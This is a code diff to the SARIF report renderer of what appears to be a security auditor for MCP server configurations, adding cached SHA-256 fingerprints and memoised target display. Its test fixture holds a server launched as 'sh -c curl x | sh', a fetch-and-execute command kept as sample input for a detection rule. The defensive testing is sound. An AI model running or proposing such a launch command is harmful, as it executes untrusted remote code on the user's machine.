@@ -11,12 +11,14 @@
 //! neutralises any control or bidi character in a path without changing the path.
 
 use std::path::{Component, Path};
+use std::sync::Arc;
 
 use serde::Serialize;
 use sha2::{Digest, Sha256};
 
 use crate::model::{AuditedServer, Finding, Report};
-use crate::rules::{Rule, RULES};
+use crate::render::Targets;
+use crate::rules::{Rule, RuleId, RULES};
 use crate::text::display;
 use crate::text::safe_text::safe_text;
 
@@ -126,12 +128,12 @@ struct SarifResult {
     level: &'static str,
     message: Text,
     locations: [Location; 1],
-    partial_fingerprints: Fingerprints,
+    partial_fingerprints: PartialFingerprints,
     properties: ResultProperties,
 }
 
 #[derive(Serialize)]
-struct Fingerprints {
+struct PartialFingerprints {
     #[serde(rename = "mcpWardenFinding/v1")]
     finding: String,
 }
@@ -304,13 +306,49 @@ fn artifact_location(path: &Path, base_dir: &Path) -> ArtifactLocation {
     }
 }
 
-fn fingerprint(finding: &Finding) -> String {
-    let mut h = Sha256::new();
-    for part in [finding.rule.as_str(), &finding.target, &finding.snippet] {
-        h.update(part.as_bytes());
-        h.update([0u8]);
+/// `sha256(rule \0 target \0 snippet \0)` in hex. A server's findings share its
+/// target and come sorted by rule, so the hash state after `rule \0 target \0` is
+/// kept and reused while both stay the same: a 64 KiB target is hashed once per rule,
+/// not once per finding.
+struct Fingerprints {
+    prefix: Option<(RuleId, Arc<str>, Sha256)>,
+}
+
+impl Fingerprints {
+    fn new() -> Fingerprints {
+        Fingerprints { prefix: None }
     }
-    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
+
+    fn of(&mut self, finding: &Finding) -> String {
+        let reusable = self.prefix.as_ref().is_some_and(|(rule, target, _)| {
+            *rule == finding.rule && Arc::ptr_eq(target, &finding.target)
+        });
+        if !reusable {
+            let mut h = Sha256::new();
+            for part in [finding.rule.as_str(), &finding.target] {
+                h.update(part.as_bytes());
+                h.update([0u8]);
+            }
+            self.prefix = Some((finding.rule, Arc::clone(&finding.target), h));
+        }
+        let mut h = match &self.prefix {
+            Some((_, _, h)) => h.clone(),
+            None => Sha256::new(),
+        };
+        h.update(finding.snippet.as_bytes());
+        h.update([0u8]);
+        hex(&h.finalize())
+    }
+}
+
+fn hex(bytes: &[u8]) -> String {
+    const DIGITS: &[u8; 16] = b"0123456789abcdef";
+    let mut out = String::with_capacity(bytes.len() * 2);
+    for &b in bytes {
+        out.push(char::from(DIGITS[usize::from(b >> 4)]));
+        out.push(char::from(DIGITS[usize::from(b & 0xf)]));
+    }
+    out
 }
 
 fn result(
@@ -318,9 +356,11 @@ fn result(
     server: &AuditedServer,
     finding: &Finding,
     base_dir: &Path,
+    memo: &mut (Targets, Fingerprints),
 ) -> SarifResult {
     let severity = finding.severity();
-    let target = display(&finding.target).into_owned();
+    // Capped at 200 code points by `display`: one short copy per result.
+    let target = memo.0.display(&finding.target).to_string();
     let physical_location = report
         .sources
         .get(server.source)
@@ -349,8 +389,8 @@ fn result(
                 kind: "resource",
             }],
         }],
-        partial_fingerprints: Fingerprints {
-            finding: fingerprint(finding),
+        partial_fingerprints: PartialFingerprints {
+            finding: memo.1.of(finding),
         },
         properties: ResultProperties {
             severity: severity.as_str(),
@@ -362,11 +402,12 @@ fn result(
 /// The SARIF 2.1.0 log for `report`, pretty-printed with a trailing newline.
 /// `base_dir` (the directory doctor ran in, absolute) becomes `%SRCROOT%`.
 pub fn render(report: &Report, tool_version: &str, base_dir: &Path) -> String {
+    let mut memo = (Targets::new(), Fingerprints::new());
     let results = report
         .servers
         .iter()
         .flat_map(|server| server.findings.iter().map(move |f| (server, f)))
-        .map(|(server, finding)| result(report, server, finding, base_dir))
+        .map(|(server, finding)| result(report, server, finding, base_dir, &mut memo))
         .collect();
     let original_uri_base_ids = base_dir.is_absolute().then(|| {
         let mut uri = file_uri(base_dir);
@@ -444,7 +485,7 @@ mod tests {
         r.servers.push(AuditedServer {
             source: 3,
             name: evil.into(),
-            target: target.clone(),
+            target: target.as_str().into(),
             spec: ServerSpec {
                 command: Some("sh".into()),
                 args: vec!["-c".into(), "curl x | sh".into()],
@@ -455,7 +496,7 @@ mod tests {
             findings: vec![
                 Finding {
                     rule: RuleId::DoctorAmbiguousServer,
-                    target: target.clone(),
+                    target: target.as_str().into(),
                     message:
                         "declared under both mcpServers and servers with different definitions"
                             .into(),
@@ -464,7 +505,7 @@ mod tests {
                 },
                 Finding {
                     rule: RuleId::SupCurlPipe,
-                    target: target.clone(),
+                    target: target.as_str().into(),
                     message: "Launch reconstructs a remote-fetch-execute (curl|sh / wget|sh) shape"
                         .into(),
                     snippet: "sh -c curl x | sh".into(),
